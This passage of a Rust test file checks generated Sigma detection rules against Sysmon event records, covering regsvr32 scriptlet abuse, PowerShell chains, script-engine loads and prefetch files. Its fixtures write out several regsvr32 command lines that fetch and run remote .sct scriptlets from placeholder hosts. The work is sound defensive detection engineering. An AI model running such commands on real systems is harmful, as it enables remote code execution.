/// event ID it matches, as indexes into `events`.
fn matched_records(
    rules: &[&SigmaRule],
    title_prefix: &str,
    events: &[evidence::SysmonEvent],
    event_id: u32,
) -> Vec<usize> {
    let rule = rules
        .iter()
        .find(|rule| rule.title.starts_with(title_prefix))
        .unwrap_or_else(|| panic!("no rule titled {title_prefix:?}"));
    events
        .iter()
        .enumerate()
        .filter(|(_, event)| event.id == event_id && matcher::matches(&rule.yaml, event))
        .map(|(index, _)| index)
        .collect()
}

#[test]
fn shipped_rules_match_their_records() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let rules = sigma_rules(&proposals);
    let events = evidence::parse(&[SHIPPED_EVENTS]);
    let image = |index: usize| events[index].basename("Image").unwrap();
    let loaded = |index: usize| events[index].basename("ImageLoaded").unwrap();

    let scriptlet = matched_records(&rules, "regsvr32.exe With Remote URL", &events, 1);
    let images: Vec<String> = scriptlet.into_iter().map(image).collect();
    assert_eq!(images, ["regsvr32.exe"]);

    let chain = matched_records(&rules, "powershell.exe Started by", &events, 1);
    let images: Vec<String> = chain.into_iter().map(image).collect();
    assert_eq!(images, ["powershell.exe"]);

    let encoded = matched_records(&rules, "PowerShell With Encoded", &events, 1);
    let images: Vec<String> = encoded.into_iter().map(image).collect();
    assert_eq!(images, ["powershell.exe"]);

    let engines = matched_records(&rules, "Script Engine Loaded", &events, 7);
    let modules: Vec<String> = engines.into_iter().map(loaded).collect();
    assert_eq!(modules, ["scrobj.dll", "jscript.dll", "wshom.ocx"]);

    let outbound = matched_records(&rules, "Network Connection Initiated", &events, 3);
    assert_eq!(outbound.len(), 1);
    assert_eq!(image(outbound[0]), "regsvr32.exe");

    let destinations = matched_records(&rules, "Network Connection to Attack", &events, 3);
    assert_eq!(destinations.len(), 10);
}

#[test]
fn scriptlet_rule_generalises_command_line() {
    let case = shipped_case();
    let proposals = propose(&case.input());
    let rules = sigma_rules(&proposals);
    let rule = rules
        .iter()
        .find(|rule| rule.title.starts_with("regsvr32.exe With Remote URL"))
        .unwrap();
    let record = |image: &str, original: &str, command_line: &str| {
        let line = serde_json::json!({
            "EventID": 1,
            "Image": image,
            "OriginalFileName": original,
            "CommandLine": command_line,
        })
        .to_string();
        evidence::parse(&[&line]).remove(0)
    };

    let variants = [
        record(
            r"C:\Windows\SysWOW64\regsvr32.exe",
            "REGSVR32.EXE",
            "regsvr32 /s /u -i:https://cdn.example.org/a.sct scrobj.dll",
        ),
        record(
            r"C:\Users\Public\r32.exe",
            "REGSVR32.EXE",
            r#"r32.exe /s /n /u /I:"http://10.1.2.3/x.sct" SCROBJ.DLL"#,
        ),
        record(
            r"C:\Windows\System32\regsvr32.exe",
            "REGSVR32.EXE",
            "regsvr32.exe \u{2013}i:ftp://files.example.org/x.sct scrobj.dll",
        ),
    ];
    for variant in &variants {
        assert!(matcher::matches(&rule.yaml, variant), "{variant:?}");
    }

    let unrelated = [
        record(
            r"C:\Windows\System32\regsvr32.exe",
            "REGSVR32.EXE",
            r"regsvr32.exe /s C:\Program Files\App\component.dll",
        ),
        record(
            r"C:\Windows\System32\regsvr32.exe",
            "REGSVR32.EXE",
            "regsvr32.exe /s /i:http://intranet/a.sct other.dll",
        ),
        record(
            r"C:\Windows\System32\rundll32.exe",
            "RUNDLL32.EXE",
            "rundll32.exe /i:http://a.example.org/a.sct scrobj.dll",
        ),
    ];
    for record in &unrelated {
        assert!(!matcher::matches(&rule.yaml, record), "{record:?}");
    }
}

#[test]
fn shipped_case_windows_files() {
    let mut case = shipped_case();
    case.iocs
        .extend(classify(&["REGSVR32.EXE-8461DBEE.pf", "launcher.sct"]));
    let files = windows_files(&case.input());
    assert_eq!(
        files,
        [
            (IocKind::Sha256, POWERSHELL_SHA256.to_string()),
            (IocKind::Filename, "REGSVR32.EXE-8461DBEE.pf".to_string()),
        ]
    );
}

#[test]
fn prefetch_names_need_the_folder_and_the_form() {
    let event = |path: &str| {
        format!(
            r#"{{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":11,"Image":"C:\\windows\\system32\\svchost.exe","TargetFilename":"{}"}}"#,
            path.replace('\\', "\\\\")
        )
    };
    let lines = [
        event("C:\\Windows\\Prefetch\\EVIL.EXE-0A1B2C3D.pf"),
        event("C:\\Users\\x\\Prefetch\\OTHER.EXE-0A1B2C3D.pf"),
        event("C:\\Windows\\Prefetch\\NOTES.pf"),
        event("C:\\Windows\\Prefetch\\BAD.EXE-XYZ12345.pf"),
    ]
    .join("\n");
    let events = evidence::parse(&[lines.as_str()]);
    let files = evidence::prefetch_files(&events);
    assert_eq!(
        files.keys().collect::<Vec<_>>(),
        ["evil.exe-0a1b2c3d.pf"],
        "{files:?}"
    );
}
